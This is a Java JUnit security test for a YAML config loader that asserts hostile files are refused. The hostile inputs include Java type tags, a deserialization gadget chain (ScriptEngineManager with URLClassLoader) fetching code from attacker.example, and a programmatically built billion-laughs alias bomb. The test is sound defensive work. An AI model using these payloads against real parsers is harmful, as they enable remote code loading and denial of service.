package io.tributary.common.config;

import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Map;

import static org.junit.jupiter.api.Assertions.*;

/**
 * Config files written to attack the loader: YAML tags that ask for Java objects, anchors and aliases
 * (the billion-laughs shape), nesting and sheer size. Each is refused with a ConfigException (exit 2)
 * that names the file and the rule, before any value is used.
 */
@Tag("security")
class ConfigAttackTest {
    @TempDir
    Path tmp;

    private String refusal(String yaml) throws Exception {
        Path file = Files.writeString(tmp.resolve("attack.yaml"), yaml);
        ConfigException e = assertThrows(ConfigException.class, () -> ConfigLoader.load(file, Map.of()),
                "accepted:\n" + yaml);
        assertTrue(e.getMessage().startsWith("Config file " + file + " "), e.getMessage());
        return e.getMessage();
    }

    @Test
    void javaTypeTagsAreRefused() throws Exception {
        String msg = refusal("data: !!java.net.URL http://attacker.example/\noutput: /o\n");
        assertTrue(msg.contains("tag !!java.net.URL") || msg.contains("tag tag:yaml.org,2002:java.net.URL"), msg);
        assertTrue(msg.contains("tags, anchors and aliases are not allowed"), msg);
        assertTrue(msg.contains("line 1"), msg);
    }

    @Test
    void gadgetChainsAreRefused() throws Exception {
        String msg = refusal("data: /d\noutput: /o\nseed: !!javax.script.ScriptEngineManager "
                + "[!!java.net.URLClassLoader [[!!java.net.URL [\"http://attacker.example/\"]]]]\n");
        assertTrue(msg.contains("tags, anchors and aliases are not allowed"), msg);
    }

    @Test
    void localAndStandardTagsAreRefused() throws Exception {
        assertTrue(refusal("data: !foo /d\noutput: /o\n").contains("tag !foo"));
        assertTrue(refusal("data: /d\noutput: /o\nepochs: !!int 3\n").contains("tags, anchors and aliases are not allowed"));
        assertTrue(refusal("!!map {data: /d, output: /o}\n").contains("tags, anchors and aliases are not allowed"));
    }

    @Test
    void anchorsAndAliasesAreRefused() throws Exception {
        String msg = refusal("data: &where /d\noutput: *where\n");
        assertTrue(msg.contains("anchor &where"), msg);
        assertTrue(msg.contains("tags, anchors and aliases are not allowed"), msg);
        assertTrue(refusal("data: /d\noutput: *where\n").contains("tags, anchors and aliases are not allowed"));
    }

    @Test
    void billionLaughsIsRefused() throws Exception {
        StringBuilder yaml = new StringBuilder("data: /d\noutput: /o\na: &a [\"lol\",\"lol\",\"lol\",\"lol\",\"lol\"]\n");
        for (char c = 'b'; c <= 'i'; c++) {
            char p = (char) (c - 1);
            yaml.append(c).append(": &").append(c).append(" [*").append(p).append(",*").append(p).append(",*")
                    .append(p).append(",*").append(p).append(",*").append(p).append("]\n");
        }
        assertTrue(refusal(yaml.toString()).contains("tags, anchors and aliases are not allowed"));
    }

    @Test
    void oversizedFilesAreRefusedUnread() throws Exception {
        String msg = refusal("data: /d\noutput: /o\n#" + "x".repeat(2 << 20) + "\n");
        assertTrue(msg.contains("is more than 1048576 bytes"), msg);
        assertTrue(msg.contains("at most 1048576"), msg);
    }

    @Test
    void onlyAFlatMapOfScalarsIsAccepted() throws Exception {
        assertTrue(refusal("data: /d\noutput: /o\nepochs: {n: 3}\n").contains("must be a single value"));
        assertTrue(refusal("- data\n- output\n").contains("must be a mapping of keys to values"));
        Path ok = Files.writeString(tmp.resolve("ok.yaml"), "data: /d\noutput: /o\nepochs: 3\nlearning-rate: 0.01\n");
        TrainConfig c = ConfigLoader.load(ok, Map.of());
        assertEquals(3, c.epochs());
        assertEquals(0.01, c.learningRate());
        assertEquals("/o", c.output());
    }
}
